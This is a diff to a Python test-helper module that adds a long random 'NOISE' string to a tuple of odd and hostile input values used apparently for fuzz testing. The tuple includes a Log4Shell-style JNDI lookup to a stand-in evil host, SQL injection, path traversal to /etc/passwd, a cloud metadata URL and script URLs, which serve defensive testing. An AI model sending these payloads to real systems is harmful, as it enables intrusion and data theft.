@@ -13,6 +13,7 @@ from functools import cache
 from inspect import getsourcefile
 from pathlib import Path
 from random import Random
+from string import ascii_letters
 from typing import Any
 from urllib.parse import parse_qsl, quote, urlencode
 
@@ -51,11 +52,13 @@ class Raw:
 # --- what is put in the place of something good --------------------------------------------------
 
 LONG = 20_001
+NOISE = "".join(Random(LONG).choices(ascii_letters, k=9000))
+"""Of what can be made smaller, PostgreSQL keeps more in an index."""
 ODD: tuple[Any, ...] = (
     None, True, False, 0, -1, 1, 3.5, "", " ", "x", [], {}, [[]], {"": ""}, [None], [0, "a", None, {}, []], {"a": {"b": {"c": []}}},
     "null", "\x00", "a\x00b", "\u202e\u200b", "🔥" * 40, "<!channel> <@U1> <https://evil.example|https://pagerduty.com>", "a\r\nb",
     "../../etc/passwd", "'; DROP TABLE inbox; --", "${jndi:ldap://evil.example/x}", "{{ 7 * 7 }}", "%s%n%x", "=cmd()", "-1",
-    "NaN", "Infinity", "1e999", "9" * 400, "0x10", "١٢٣", "x" * LONG, "a " * LONG, "[" * 300, "https://[::1", "http://169.254.169.254/",
+    "NaN", "Infinity", "1e999", "9" * 400, "0x10", "١٢٣", "x" * LONG, "a " * LONG, NOISE, "[" * 300, "https://[::1", "http://169.254.169.254/",
     "javascript:alert(1)", "https://a.example/" + "a" * 5000, "//evil.example", "https://user@evil.example:99999/",
     "2026-13-45T99:99:99Z", "9999-12-31T23:59:59.999999999-14:00", "0001-01-01T00:00:00Z", "0000-00-00", "1969-12-31T23:59:59Z",
     "2026-06-10", "12:00:00", 10**18, -(10**18), 2**53, 2**63, 2**64, 253402300800, 1e308, -1e-308, 5e-324,
